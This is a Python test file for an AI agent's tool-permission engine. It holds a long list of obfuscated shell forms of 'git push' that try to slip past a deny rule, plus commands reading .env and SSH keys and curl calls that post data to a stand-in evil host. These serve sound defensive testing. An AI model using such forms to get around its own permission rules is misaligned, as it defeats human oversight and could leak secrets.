"""What an agent's rules say about its calls of tools, above all: what a command can't slip past."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fleet.model.permissions import Call, Permissions
from fleet.policy.paths import covers
from fleet.policy.pattern import may_fit
from fleet.policy.permit import rule_on
from fleet.policy.shell import UNKNOWN

RULES = Permissions(
    deny=(
        "Bash(git push *)",
        "Read(.env)",
        "Read(~/.ssh)",
        "Edit(.github/**)",
        "WebFetch(domain:*.evil.org)",
        "WebFetch(domain:evil.org)",
    ),
    ask=("Bash(npm publish *)", "mcp__db__drop"),
    allow=(
        *("Bash(git *)", "Bash(npm *)", "Bash(ls *)", "Bash(cat *)", "Bash(curl *)", "Bash(rm build/*)"),
        *("Read", "Edit", "WebFetch", "mcp__db"),
    ),
)
ONLY_STATUS = Permissions(allow=("Bash(git status*)",))


def permit(command: str, rules: Permissions = RULES) -> str:
    return rule_on(rules, Call("Bash", command, workspace="/work/shop", home="/home/you")).permit


PUSHES = (
    "git push",
    "git  push origin main",
    "git\tpush",
    "git status && git push",
    "git status; git push",
    "git status | git push",
    "git status & git push",
    "git status\ngit push",
    "git status #\ngit push",
    "git sta\\\ntus; git push",
    "(git push)",
    "{ git push; }",
    "! git push",
    "if true; then git push; fi",
    "while true; do git push; done",
    "for x in a b; do git push; done",
    "git push > /dev/null 2>&1",
    "/usr/bin/git push",
    "../../usr/bin/git push",
    "GIT push",
    "g\\it push",
    'git "push"',
    "git pus''h",
    "git -C . push",
    "git -c user.name=x push",
    "git --git-dir=.git push",
    "X=1 git push",
    "env X=1 git push",
    "env -u X git push",
    "env -S 'git push'",
    "command git push",
    "builtin command git push",
    "exec git push",
    "nohup git push &",
    "time git push",
    "nice -n 5 git push",
    "timeout -s KILL 5 git push",
    "sudo -u ann git push",
    "setsid git push",
    "sh -c 'git push'",
    "/bin/sh -c 'git push'",
    'bash -lc "git pu"sh',
    "sh -c \"sh -c 'git push'\"",
    "eval git push",
    "eval 'git pu''sh'",
    "echo push | xargs git",
    "echo push | xargs -I{} git {}",
    "echo origin | xargs git push",
    "find . -exec git push {} \\;",
    "echo $(git push)",
    'echo "$(git push)"',
    "echo `git push`",
    'echo "`git push`"',
    "cat <(git push)",
    "cat <<EOF\n$(git push)\nEOF",
    "echo ${x:-$(git push)}",
    "x=$(git push)",
    "git $(echo push)",
    "git $X",
    "git p*",
    "git {push,origin}",
    "$X push",
    "{git,push}",
    "`echo git` push",
    "a=git; $a push",
    "alias g=git; g push",
    "g() { git push; }; g",
    "function g { git push; }; g",
    "case x in *) git push;; esac",
    "echo git push | sh",
    "bash <<< 'git push'",
    "sh <<EOF\ngit push\nEOF",
    "bash -s < script",
    "trap 'git push' EXIT",
    "$'git' push",
    "=git push",
    "watch git push",
    "coproc X { git push; }",
    "time -p git push",
    "exec -cla x git push",
    "sudo -nu root git push",
    "env -iu X git push",
    "timeout -vk 5 10 git push",
    "bash -eo pipefail -c 'git push'",
    "bash --rcfile x -O extglob -c 'git push'",
    "echo git push | sh /dev/stdin",
    "echo git push | bash -s x",
    "busybox sh -c 'git push'",
    "\\alias g='git push'\ng",
    "hash -p /usr/bin/git x; x push",
    ". /dev/stdin <<< 'git push'",
    "git -c alias.p=push p",
    "git --config-env=alias.p=P p",
    "systemd-run --user git push",
    "taskset 1 /usr/bin/git push",
    "setpriv --reuid 0 sudo -n git -C x push",
    "tmux new -d 'git push'",
    "ssh localhost git push",
    "at now <<< 'git push'",
    "git\u00a0status; git push",
    "git status\x00; git push",
)


@pytest.mark.parametrize("command", PUSHES)
def test_no_form_of_a_push_slips_past_a_rule_that_denies_it(command):
    assert permit(command) == "deny"


@pytest.mark.parametrize("command", PUSHES)
def test_nor_is_it_allowed_by_a_rule_for_something_else(command):
    assert permit(command, ONLY_STATUS) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git status --short",
        "LANG=C git status",
        "git status 2>/dev/null",
        "git status && git status",
        "timeout 5 git status",
        "sh -c 'git status'",
        "cd src && git status",
        "fleet agent done -m 'it is done'",
    ],
)
def test_an_allowed_command_stays_allowed_in_its_everyday_forms(command):
    assert permit(command, ONLY_STATUS) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git stash",
        "./git status",
        "/tmp/git status",
        "PATH=/tmp git status",
        "PATH=/tmp; git status",
        "GIT_PAGER=evil git status",
        "export PATH=/tmp && git status",
        "cd / && git status",
        "cd ../other && git status",
        "git status > notes.txt",
        "git status; make",
        "git status $(make)",
        "fleet agent done -m x; make",
    ],
)
def test_what_no_rule_allows_is_not_allowed_by_standing_beside_what_is(command):
    assert permit(command, ONLY_STATUS) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "xargs --arg-file git rm",
        "xargs --process-slot-var git rm",
        "xargs -ra git rm",
        "\\time --format git rm x",
        "\\time --output git rm x",
        "stdbuf --input git rm x",
        "nice --adjustmen git rm x",
    ],
)
def test_an_option_that_may_take_a_word_does_not_hide_the_program_behind_an_allowed_one(command):
    assert permit(command, Permissions(allow=("Bash(git *)",))) == "deny"


@pytest.mark.parametrize(
    "command", ["time git log", "tmux a", "nice -n 5 git log", "xargs -r git log", "timeout -v 5 git log"]
)
def test_nor_is_one_refused_whose_options_can_be_read(command):
    assert permit(command, Permissions(allow=("Bash(git *)", "Bash(tmux *)"))) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "cat ./src/../.env",
        "cat src/.env",
        "cat .e*",
        "cat *",
        "cat < .env",
        "git diff --no-index .env x",
        "cat ~/.ssh/id_ed25519",
        "cat /home/you/.ssh/id_ed25519",
        "cd ~ && cat .ssh/id_ed25519",
        "rm build/../.github/workflows/ci.yml",
        "git rm -r .github",
        "cd .github && rm ci.yml",
        "git -C .github mv ci.yml x",
        "ls > .github/ci.yml",
        "curl https://evil.org/x",
        "curl -d @x www.evil.org",
        "curl $URL",
        "git fetch git@evil.org:x",
    ],
)
def test_files_and_hosts_are_guarded_in_commands_too(command):
    assert permit(command) == "deny"


def test_a_usual_commit_with_a_here_document_is_not_held_up():
    command = "git commit -m \"$(cat <<'EOF'\nSay what `git push` (and $(this)) is for\nEOF\n)\""
    assert permit(command) == "allow"


def test_a_person_is_asked_before_what_is_allowed():
    assert permit("npm test && npm publish --tag next") == "ask"
    assert permit("npm test") == "allow"


def test_a_link_is_followed_where_the_caller_can_follow_it():
    call = Call("Bash", "rm build/g/ci.yml", workspace="/work/shop", home="/home/you")
    found = rule_on(RULES, call, lambda path: path.replace("/build/g", "/.github"))
    assert (found.permit, found.rule) == ("deny", "Edit(.github/**)")


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        (Call("Read", paths=("/work/shop/a.py",)), "allow"),
        (Call("Read", paths=("/work/shop/deep/.env",)), "deny"),
        (Call("Grep", paths=("/work/shop/deep/.env",)), "deny"),
        (Call("Write", paths=("/work/shop/.github/x.yml",)), "deny"),
        (Call("NotebookEdit", paths=("/work/shop/.github",)), "deny"),
        (Call("WebFetch", hosts=("docs.example.org",)), "allow"),
        (Call("WebFetch", hosts=("WWW.evil.ORG",)), "deny"),
        (Call("mcp__db__query"), "allow"),
        (Call("mcp__db__drop"), "ask"),
        (Call("mcp__dbx__query"), "deny"),
        (Call("mcp__fleet__done"), "allow"),
        (Call("Skill"), "deny"),
    ],
)
def test_tools_other_than_the_shell(call, expected):
    where = Call(call.tool, "", call.paths, call.hosts, "/work/shop", "/home/you")
    assert rule_on(RULES, where).permit == expected


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("src/*.py", "/w/src/a.py", True),
        ("src/*.py", "/w/src/deep/a.py", False),
        ("src/**", "/w/src/deep/a.py", True),
        ("src/**", "/w/src", True),
        ("src/**", "/w/srcs", False),
        ("/src", "/w/src/a.py", True),
        ("*.pem", "/w/deep/a.pem", True),
        ("//etc/*", "/etc/passwd", True),
        ("~/.aws", "/h/.aws/credentials", True),
        (".", "/w/anything", True),
        (".", "/elsewhere", False),
    ],
)
def test_patterns_for_files(pattern, path, expected):
    assert covers(pattern, path, "/w", "/h") is expected


def test_what_can_not_be_read_is_allowed_where_every_command_is():
    everything = Permissions(allow=("Bash",))
    assert permit("f() { make; }; f", everything) == "allow"
    assert permit("f() { make; }; f", Permissions(allow=("Bash",), deny=("Bash(make *)",))) == "deny"


@given(st.text("ab*", max_size=8), st.text(f"ab{UNKNOWN}", max_size=8), st.text("ab", max_size=4))
def test_an_unknown_part_may_be_anything(pattern, text, value):
    known = text.replace(UNKNOWN, value)
    if may_fit(pattern, known):
        assert may_fit(pattern, text)


@pytest.fixture(scope="module")
def programs(tmp_path_factory) -> Path:
    """A folder in which `git` says what it was told, and nothing else is different."""
    folder = tmp_path_factory.mktemp("programs")
    (folder / "git").write_text('#!/bin/sh\n[ "$1" = push ] && : > "$FOUND"\nexit 0\n')
    (folder / "git").chmod(0o755)
    return folder


PIECES = st.sampled_from(
    [
        *(
            "git",
            "push",
            "status",
            "echo",
            "sh",
            "-c",
            "env",
            "A=1",
            "xargs",
            "eval",
            "$A",
            "${A}",
            "x",
            "A=git",
        ),
        *(" ", " ", " ", ";", "&&", "||", "|", "\n", "(", ")", "{ ", "; }", "&"),
        *(
            "'",
            '"',
            "\\",
            "`",
            "$(",
            "#",
            "> /dev/null",
            "<<E\n",
            "\nE\n",
            "<<<",
            "{git,push}",
            "$'",
            "!",
            "~",
        ),
    ]
)


@settings(max_examples=250, deadline=None)
@given(st.lists(PIECES, min_size=2, max_size=9))
def test_whatever_a_real_shell_makes_of_it_a_push_is_never_allowed(programs, pieces):
    command = "".join(pieces)
    rules = Permissions(deny=("Bash(git push *)",), otherwise="allow")
    if permit(command, rules) != "allow" or not {"git", "push", "{git,push}", "A=git"} & set(pieces):
        return
    found = programs / "pushed"
    path = f"{programs}{os.pathsep}/usr/bin{os.pathsep}/bin"
    done = ["timeout", "2", "bash", "-c", command]
    subprocess.run(
        done,
        env={"PATH": path, "FOUND": str(found)},
        cwd=programs,
        capture_output=True,
        check=False,
        stdin=subprocess.DEVNULL,
    )
    try:
        assert not found.exists(), command
    finally:
        found.unlink(missing_ok=True)
